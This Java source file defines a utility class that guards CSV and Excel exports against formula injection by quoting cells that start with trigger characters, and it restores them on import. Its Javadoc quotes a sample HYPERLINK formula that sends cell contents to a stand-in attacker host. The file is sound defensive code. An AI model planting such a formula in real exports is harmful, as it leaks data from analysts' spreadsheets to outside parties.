package org.barometer.platform.csv;

import java.util.regex.Pattern;

/**
 * Text written into a CSV or Excel export so that a spreadsheet never runs it as a formula (CSV or
 * formula injection). A business's comment {@code =HYPERLINK("http://evil.example/?"&A1,"click")}
 * would otherwise become a live link, or worse, when an analyst opens the export in Excel.
 *
 * <p>As OWASP recommends, a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab
 * or a carriage return gets a leading single quote, which spreadsheets show as text. A plain number
 * ({@code -1.5}, {@code -3}, {@code 2,5}) is left as it is: no spreadsheet runs it, and a quote
 * would turn a negative number into text. A cell that starts with a quote followed by such a
 * character is quoted once more, so that {@link #restored} undoes {@link #neutralised} exactly and
 * an exported file imports back to the same values.
 */
public final class SpreadsheetText {

  private static final String TRIGGERS = "=+-@\t\r";
  private static final Pattern PLAIN_NUMBER = Pattern.compile("-?\\d+([.,]\\d+)?([eE]-?\\d+)?");

  private SpreadsheetText() {}

  /** The text as a cell that is shown, never evaluated; null stays null. */
  public static String neutralised(String text) {
    return text != null && needsQuote(text) ? "'" + text : text;
  }

  /** The text an exported cell held before {@link #neutralised}; for importing an export. */
  public static String restored(String cell) {
    return cell != null && cell.startsWith("'") && needsQuote(cell.substring(1))
        ? cell.substring(1)
        : cell;
  }

  private static boolean needsQuote(String text) {
    if (text.isEmpty() || PLAIN_NUMBER.matcher(text).matches()) {
      return false;
    }
    char first = text.charAt(0);
    return TRIGGERS.indexOf(first) >= 0 || (first == '\'' && needsQuote(text.substring(1)));
  }
}
